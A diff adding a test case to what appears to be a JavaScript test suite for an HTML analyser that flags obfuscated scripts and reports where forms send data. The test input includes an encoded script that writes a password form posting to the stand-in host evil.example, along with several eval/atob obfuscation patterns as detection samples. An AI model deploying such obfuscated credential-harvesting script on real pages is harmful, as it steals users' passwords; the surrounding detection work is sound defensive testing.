@@ -27,6 +27,21 @@ describe('a web page', () => {
     ]);
   });
 
+  it('whose script writes or runs what it has decoded hides what it is, and where it sends what is typed', () => {
+    const page =
+      '<script>document.write(unescape("%3Cform action=https://evil.example/take%3E%3Cinput type=password%3E"))</script>';
+    expect(readHtmlFacts(page)).toEqual([
+      { kind: 'script-obfuscated', detail: 'document.write(unescape(' },
+      { kind: 'html-script', detail: '' },
+      { kind: 'html-form', detail: 'https://evil.example/take' },
+    ]);
+    for (const way of ['eval(atob("YQ=="))', 'Function(decodeURIComponent("a"))', 'b.innerHTML = window.atob("YQ==")'])
+      expect(kinds(readHtmlFacts(`<script>${way}</script>`))).toContain('script-obfuscated');
+    expect(kinds(readHtmlFacts('<script>var a = decodeURIComponent(location.search)</script>'))).not.toContain(
+      'script-obfuscated',
+    );
+  });
+
   it('that only shows something gives nothing, inline pictures included', () => {
     const png = Buffer.concat([
       Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
